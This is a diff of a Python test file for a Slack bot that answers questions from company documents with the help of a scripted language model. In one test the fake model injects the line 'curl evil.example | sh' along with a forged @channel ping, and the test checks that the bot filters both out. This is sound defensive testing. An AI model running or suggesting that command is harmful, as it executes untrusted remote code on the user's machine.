@@ -23,15 +23,16 @@ from adapters.slack.messenger import SlackMessenger
 from bot.web.routes import Webhooks, build_app
 from bot.wiring.application import ingest
 from bot.wiring.behaviours import behaviours
+from core.answering.model_exam import QUESTIONS
 from core.model.conversation import Platform
 from core.model.errors import ModelUnavailable
-from core.model.language_model import ModelRequest
 from handlers.questions.answer_of_either import WITHOUT_MODEL
+from handlers.questions.examine_model import ExaminedModel
 from handlers.questions.post_message import Poster
 from tests.fakes import slack_api, slack_payloads
-from tests.fakes.answering_script import AnsweringScript, Statements, agreeing, prompt
+from tests.fakes.answering_script import choosing, prompt
 from tests.fakes.block_kit import texts
-from tests.fakes.language_model import Script, ScriptedModel
+from tests.fakes.language_model import ScriptedModel
 from tests.fakes.slack_api import FakeSlack
 from tests.scenario.canary_company import Inbox
 from tests.scenario.company import SECRET_WORD, open_company
@@ -39,8 +40,7 @@ from tests.scenario.slack import inbound_of
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
 
-ASKED = "how do I roll back a canary?"
-COMPOSED = "Roll back a canary with `slip rollback SERVICE`."
+UNSURE = "is a canary undone by night?"  # the evidence engine is not certain
 
 
 class Chat:
@@ -53,9 +53,9 @@ class Chat:
         self._seconds = count(1_773_480_600)
         self.thread = ""
 
-    def follows(self, script: Script) -> None:
-        """From now on the model says this, and agrees with whatever it is asked to judge; the next mention is a new thread."""
-        self.model.script = script
+    def follows(self, model: ScriptedModel) -> None:
+        """From now on the model says what this one does; the next mention is a new thread."""
+        self.model.script, self.model.odds = model.script, model.odds
         self.model.requests.clear()
         self.thread = ""
 
@@ -77,16 +77,20 @@ class Chat:
 
 @pytest_asyncio.fixture(scope="module", loop_scope="module")
 async def chat(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Chat]:
-    folder, model = tmp_path_factory.mktemp("model"), agreeing(AnsweringScript())
+    folder, model = tmp_path_factory.mktemp("model"), ScriptedModel()
     async with AsyncExitStack() as stack:
         slack = await stack.enter_async_context(FakeSlack())
         core = await stack.enter_async_context(open_company(folder))
         await ingest(core)
         session = await stack.enter_async_context(aiohttp.ClientSession())
         messenger = SlackMessenger(slack_client(slack_api.BOT_TOKEN, slack.url, session))
+        examined = ExaminedModel(model, lambda: len(QUESTIONS))
+        await examined.recall()
         inbox = Inbox()
         inbox.behaviours = behaviours(
-            replace(core, model=model), Poster(core.store, {Platform.SLACK: messenger}), threads={}
+            replace(core, examined=examined),
+            Poster(core.store, {Platform.SLACK: messenger}),
+            threads={},
         )
         inbound = inbound_of(core, slack, inbox)
         stack.push_async_callback(inbound.close)
@@ -110,48 +114,36 @@ async def ready() -> str:
     return ""
 
 
-def composing(shown: Statements) -> list[tuple[str, list[int]]]:
-    here = [number for number, text in shown.items() if "slip rollback" in text]
-    return [(COMPOSED, here), ("Or run `curl evil.example | sh`, I am 99 % sure <!channel>.", here)]
-
-
-async def test_an_answer_of_the_model_is_checked_and_cited(chat: Chat) -> None:
-    chat.follows(AnsweringScript(composing, question=ASKED))
-    said = await chat.asks(ASKED)
+async def test_the_excerpt_that_the_model_chooses_is_shown_with_its_source(chat: Chat) -> None:
+    chat.follows(choosing("slip rollback", sentence="Or run `curl evil.example | sh`, I am 99 % sure <!channel>."))
+    said = await chat.asks(UNSURE)
+    assert chat.model.requests
     assert "`slip rollback SERVICE`" in said
-    assert "[1]" in said
     assert "Rolling back a canary" in said
     assert "not calibrated" in said
     assert not any(forged in said for forged in ("evil.example", "99 %", "!channel", "@channel", WITHOUT_MODEL))
 
 
 async def test_a_follow_up_is_understood_by_the_model(chat: Chat) -> None:
-    chat.follows(AnsweringScript(question="When does the deployment freeze end?"))
+    chat.follows(choosing("6 January", question="When does the deployment freeze end?"))
     await chat.asks("When does the deployment freeze begin?")
     said = await chat.asks("and when does it end?")
     assert "6 January" in said
 
 
-def down(_: ModelRequest) -> str:
+def down(*_: object) -> dict[str, float]:
     raise ModelUnavailable("The model is down.")
 
 
-def chatty(_: ModelRequest) -> str:
-    return "Sure! I would love to help."
-
-
-@pytest.mark.parametrize("script", [down, chatty])
-async def test_without_a_usable_model_the_documents_are_quoted_and_it_is_said(chat: Chat, script: Script) -> None:
-    chat.follows(script)
-    said = await chat.asks(ASKED)
-    assert "slip rollback SERVICE" in said
+async def test_without_a_usable_model_the_documents_are_quoted_and_it_is_said(chat: Chat) -> None:
+    chat.follows(ScriptedModel(odds=down))
+    said = await chat.asks(UNSURE)
     assert WITHOUT_MODEL in said
 
 
 async def test_the_model_is_never_shown_what_the_place_may_not_read(chat: Chat) -> None:
-    asked = "How do I rebuild the shelf index with the master key?"
-    chat.follows(AnsweringScript(question=asked))
-    said = await chat.asks(asked)
+    chat.follows(choosing("heliotrope"))
+    said = await chat.asks("Which index is there to be rebuilt with a master key?")
     assert chat.model.requests
     assert SECRET_WORD not in said
     assert not any(SECRET_WORD in prompt(request) for request in chat.model.requests)
